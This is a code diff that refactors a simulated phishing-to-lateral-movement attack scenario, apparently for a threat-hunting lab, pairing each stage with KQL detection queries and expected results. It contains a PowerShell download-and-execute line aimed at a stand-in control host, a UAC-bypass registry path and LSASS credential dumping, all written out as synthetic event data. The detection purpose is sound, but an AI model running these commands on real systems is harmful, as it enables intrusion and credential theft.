@@ -1,14 +1,22 @@
 import { deliver } from '../activities/organisation.js';
 import { resolveName } from '../activities/windows.js';
-import { accounts, company } from '../company.js';
+import { accounts, company, type Employee } from '../company.js';
+import type { Host, Process } from '../host.js';
 import { publicAddress } from '../internet.js';
 import { program, programAt } from '../programs.js';
-import { minute } from '../time.js';
-import { type Attack, encodedCommand, raiseAlert } from './attack.js';
+import { type Clock, minute } from '../time.js';
+import { type Attack, encodedCommand, type Finding, raiseAlert, type Stage } from './attack.js';
 
 const control = { name: 'cdn.updates-sync.example', address: '203.0.113.77', port: 443 };
 const beacons = 36;
 const attachment = 'Invoice_88213.docm';
+
+interface Scene {
+  readonly stage: Stage;
+  readonly clock: Clock;
+  readonly victim: Host;
+  readonly user: Employee;
+}
 
 /**
  * A mail with a macro document; PowerShell fetches a second stage that beacons, stays through a Run
@@ -16,11 +24,27 @@ const attachment = 'Invoice_88213.docm';
  */
 export const invoice: Attack = (stage, start) => {
   const victim = stage.host('bw-ws001');
-  const target = stage.host('bw-fs01');
   const user = victim.device.owner;
   if (!user) throw new Error('the victim has no user');
-  const clock = stage.clock(start);
+  const scene = { stage, clock: stage.clock(start), victim, user };
+  const mail = sendMails(scene);
+  const document = openDocument(scene);
+  const implant = leaveImplant(scene, document.shell);
+  const discovery = discover(scene, implant.agent);
+  const credentials = readCredentials(scene, implant.agent);
+  const movement = moveToServer(scene, credentials.elevated);
+  const beacon = sendBeacons(scene, implant.agent);
+  return [mail, document, implant, discovery, credentials, movement, beacon].flatMap(
+    ({ findings }) => findings,
+  );
+};
 
+interface Step {
+  readonly findings: readonly Finding[];
+}
+
+/** Whom the mail is for, and two more of the finance department. */
+function sendMails({ stage, clock, user }: Scene): Step {
   const recipients = stage.organisation.employees.filter(
     ({ department }) => department === 'Finance',
   );
@@ -39,7 +63,28 @@ export const invoice: Attack = (stage, start) => {
       stage.clock(clock.later(1, 4)),
     );
   }
+  return {
+    findings: [
+      {
+        title: 'The mail and its attachment',
+        technique: 'T1566.001',
+        kql: `EmailAttachmentInfo
+| where FileType == "docm"
+| join kind=inner (EmailEvents | where EmailDirection == "Inbound") on NetworkMessageId
+| project RecipientEmailAddress, FileName, SenderFromDomain, DeliveryAction`,
+        rows: mailed.map(({ upn }) => ({
+          RecipientEmailAddress: upn,
+          FileName: attachment,
+          SenderFromDomain: 'harbour-invoices.example',
+          DeliveryAction: 'Delivered',
+        })),
+      },
+    ],
+  };
+}
 
+/** The document's macro starts PowerShell. */
+function openDocument({ victim, clock, user }: Scene): Step & { readonly shell: Process } {
   const outlook = victim.resident(
     'outlook',
     '"C:\\Program Files\\Microsoft Office\\root\\Office16\\OUTLOOK.EXE"',
@@ -75,7 +120,34 @@ export const invoice: Attack = (stage, start) => {
   victim.event(shell, 'AmsiScriptContent', clock.soon(), {
     Content: `IEX (New-Object Net.WebClient).DownloadString('https://${control.name}/a')`,
   });
+  return {
+    shell,
+    findings: [
+      {
+        title: 'Word starts PowerShell',
+        technique: 'T1059.001',
+        kql: `DeviceProcessEvents
+| where InitiatingProcessFileName in~ ("winword.exe", "excel.exe", "powerpnt.exe")
+| where FileName =~ "powershell.exe" and ProcessCommandLine has "-enc"
+| project DeviceName, AccountName, InitiatingProcessParentFileName, ProcessCommandLine`,
+        rows: [
+          {
+            DeviceName: victim.device.name,
+            AccountName: user.name,
+            InitiatingProcessParentFileName: 'OUTLOOK.EXE',
+            ProcessCommandLine: shell.commandLine,
+          },
+        ],
+      },
+    ],
+  };
+}
 
+/** A second stage is fetched, and starts with every logon. */
+function leaveImplant(
+  { stage, clock, victim, user }: Scene,
+  shell: Process,
+): Step & { readonly agent: Process } {
   const home = `${victim.home}\\AppData\\Roaming\\Microsoft\\Teams`;
   const implant = programAt(home, 'teamsupd.exe', { content: 'attack invoice implant' });
   victim.file(shell, 'FileCreated', implant.path, clock.later(3, 9), {
@@ -101,7 +173,30 @@ export const invoice: Attack = (stage, start) => {
     },
     clock.now + 4 * minute,
   );
+  return {
+    agent,
+    findings: [
+      {
+        title: 'A Run key that starts a program from a profile',
+        technique: 'T1547.001',
+        kql: `DeviceRegistryEvents
+| where ActionType == "RegistryValueSet" and RegistryKey endswith @"\\CurrentVersion\\Run"
+| project DeviceName, RegistryValueName, RegistryValueData, InitiatingProcessFileName`,
+        rows: [
+          {
+            DeviceName: victim.device.name,
+            RegistryValueName: 'TeamsUpdate',
+            RegistryValueData: `"${implant.path}" -q`,
+            InitiatingProcessFileName: 'powershell.exe',
+          },
+        ],
+      },
+    ],
+  };
+}
 
+/** What the account may do, and where the domain is. */
+function discover({ victim, clock }: Scene, agent: Process): Step {
   const console = victim.start(
     agent,
     program('cmd'),
@@ -118,7 +213,29 @@ export const invoice: Attack = (stage, start) => {
       clock.later(1, 3),
     ),
   ];
+  return {
+    findings: [
+      {
+        title: 'Discovery from one console',
+        technique: 'T1087.002',
+        kql: `DeviceProcessEvents
+| where InitiatingProcessCommandLine has_all ("whoami", "Domain Admins", "nltest")
+| project DeviceName, FileName, ProcessCommandLine`,
+        rows: discovery.map((process) => ({
+          DeviceName: victim.device.name,
+          FileName: process.program.fileName,
+          ProcessCommandLine: process.commandLine,
+        })),
+      },
+    ],
+  };
+}
 
+/** Past UAC, and the memory of LSASS on disk. */
+function readCredentials(
+  { stage, clock, victim, user }: Scene,
+  agent: Process,
+): Step & { readonly elevated: Process } {
   victim.registry(agent, clock.later(300, 500), {
     key: `HKEY_CURRENT_USER\\${user.sid}\\Software\\Classes\\ms-settings\\Shell\\Open\\command`,
     name: 'DelegateExecute',
@@ -168,8 +285,30 @@ export const invoice: Attack = (stage, start) => {
     },
     clock.now + 3 * minute,
   );
+  return {
+    elevated,
+    findings: [
+      {
+        title: 'LSASS is opened',
+        technique: 'T1003.001',
+        kql: `DeviceEvents
+| where ActionType == "OpenProcessApiCall" and FileName =~ "lsass.exe"
+| project DeviceName, InitiatingProcessFileName, InitiatingProcessCommandLine`,
+        rows: [
+          {
+            DeviceName: victim.device.name,
+            InitiatingProcessFileName: 'rundll32.exe',
+            InitiatingProcessCommandLine: dumper.commandLine,
+          },
+        ],
+      },
+    ],
+  };
+}
 
-  // The administrator's password was in memory.
+/** With the administrator's password, which was in memory: a service on the file server. */
+function moveToServer({ stage, clock, victim }: Scene, elevated: Process): Step {
+  const target = stage.host('bw-fs01');
   clock.later(2400, 3600);
   victim.connect(
     elevated,
@@ -223,125 +362,61 @@ export const invoice: Attack = (stage, start) => {
     },
     clock.now + 2 * minute,
   );
+  return {
+    findings: [
+      {
+        title: 'A service is installed on the file server',
+        technique: 'T1543.003',
+        kql: `DeviceEvents
+| where ActionType == "ServiceInstalled"
+| extend Service = tostring(parse_json(AdditionalFields).ServiceName)
+| project DeviceName, Service, FolderPath`,
+        rows: [{ DeviceName: target.device.name, Service: 'hqzkwm', FolderPath: dropped }],
+      },
+      {
+        title: 'An administrator logs on from a workstation of the finance department with NTLM',
+        technique: 'T1021.002',
+        kql: `DeviceLogonEvents
+| where Protocol == "NTLM" and LogonType == "Network" and IsLocalAdmin == true
+| project DeviceName, AccountName, RemoteDeviceName, RemoteIP`,
+        rows: [
+          {
+            DeviceName: target.device.name,
+            AccountName: accounts.domainAdmin.name,
+            RemoteDeviceName: 'bw-ws001',
+            RemoteIP: victim.device.ip,
+          },
+        ],
+      },
+    ],
+  };
+}
 
+/** All the while. */
+function sendBeacons({ stage, victim }: Scene, agent: Process): Step {
   const beaconClock = stage.clock(agent.startedAt);
   for (let count = 0; count < beacons; count++) {
     victim.connect(agent, control, beaconClock.later(270, 330));
   }
-
-  const victimName = victim.device.name;
-  return [
-    {
-      title: 'The mail and its attachment',
-      technique: 'T1566.001',
-      kql: `EmailAttachmentInfo
-| where FileType == "docm"
-| join kind=inner (EmailEvents | where EmailDirection == "Inbound") on NetworkMessageId
-| project RecipientEmailAddress, FileName, SenderFromDomain, DeliveryAction`,
-      rows: mailed.map(({ upn }) => ({
-        RecipientEmailAddress: upn,
-        FileName: attachment,
-        SenderFromDomain: 'harbour-invoices.example',
-        DeliveryAction: 'Delivered',
-      })),
-    },
-    {
-      title: 'Word starts PowerShell',
-      technique: 'T1059.001',
-      kql: `DeviceProcessEvents
-| where InitiatingProcessFileName in~ ("winword.exe", "excel.exe", "powerpnt.exe")
-| where FileName =~ "powershell.exe" and ProcessCommandLine has "-enc"
-| project DeviceName, AccountName, InitiatingProcessParentFileName, ProcessCommandLine`,
-      rows: [
-        {
-          DeviceName: victimName,
-          AccountName: user.name,
-          InitiatingProcessParentFileName: 'OUTLOOK.EXE',
-          ProcessCommandLine: shell.commandLine,
-        },
-      ],
-    },
-    {
-      title: 'The beacon',
-      technique: 'T1071.001',
-      kql: `DeviceNetworkEvents
+  return {
+    findings: [
+      {
+        title: 'The beacon',
+        technique: 'T1071.001',
+        kql: `DeviceNetworkEvents
 | where ActionType == "ConnectionSuccess" and RemoteIPType == "Public"
 | where InitiatingProcessFolderPath has_all ("appdata", "roaming")
 | summarize Connections = count() by DeviceName, RemoteUrl, RemoteIP, RemotePort`,
-      rows: [
-        {
-          DeviceName: victimName,
-          RemoteUrl: control.name,
-          RemoteIP: control.address,
-          RemotePort: control.port,
-          Connections: beacons,
-        },
-      ],
-    },
-    {
-      title: 'A Run key that starts a program from a profile',
-      technique: 'T1547.001',
-      kql: `DeviceRegistryEvents
-| where ActionType == "RegistryValueSet" and RegistryKey endswith @"\\CurrentVersion\\Run"
-| project DeviceName, RegistryValueName, RegistryValueData, InitiatingProcessFileName`,
-      rows: [
-        {
-          DeviceName: victimName,
-          RegistryValueName: 'TeamsUpdate',
-          RegistryValueData: `"${implant.path}" -q`,
-          InitiatingProcessFileName: 'powershell.exe',
-        },
-      ],
-    },
-    {
-      title: 'Discovery from one console',
-      technique: 'T1087.002',
-      kql: `DeviceProcessEvents
-| where InitiatingProcessCommandLine has_all ("whoami", "Domain Admins", "nltest")
-| project DeviceName, FileName, ProcessCommandLine`,
-      rows: discovery.map((process) => ({
-        DeviceName: victimName,
-        FileName: process.program.fileName,
-        ProcessCommandLine: process.commandLine,
-      })),
-    },
-    {
-      title: 'LSASS is opened',
-      technique: 'T1003.001',
-      kql: `DeviceEvents
-| where ActionType == "OpenProcessApiCall" and FileName =~ "lsass.exe"
-| project DeviceName, InitiatingProcessFileName, InitiatingProcessCommandLine`,
-      rows: [
-        {
-          DeviceName: victimName,
-          InitiatingProcessFileName: 'rundll32.exe',
-          InitiatingProcessCommandLine: dumper.commandLine,
-        },
-      ],
-    },
-    {
-      title: 'A service is installed on the file server',
-      technique: 'T1543.003',
-      kql: `DeviceEvents
-| where ActionType == "ServiceInstalled"
-| extend Service = tostring(parse_json(AdditionalFields).ServiceName)
-| project DeviceName, Service, FolderPath`,
-      rows: [{ DeviceName: target.device.name, Service: 'hqzkwm', FolderPath: dropped }],
-    },
-    {
-      title: 'An administrator logs on from a workstation of the finance department with NTLM',
-      technique: 'T1021.002',
-      kql: `DeviceLogonEvents
-| where Protocol == "NTLM" and LogonType == "Network" and IsLocalAdmin == true
-| project DeviceName, AccountName, RemoteDeviceName, RemoteIP`,
-      rows: [
-        {
-          DeviceName: target.device.name,
-          AccountName: accounts.domainAdmin.name,
-          RemoteDeviceName: 'bw-ws001',
-          RemoteIP: victim.device.ip,
-        },
-      ],
-    },
-  ];
-};
+        rows: [
+          {
+            DeviceName: victim.device.name,
+            RemoteUrl: control.name,
+            RemoteIP: control.address,
+            RemotePort: control.port,
+            Connections: beacons,
+          },
+        ],
+      },
+    ],
+  };
+}
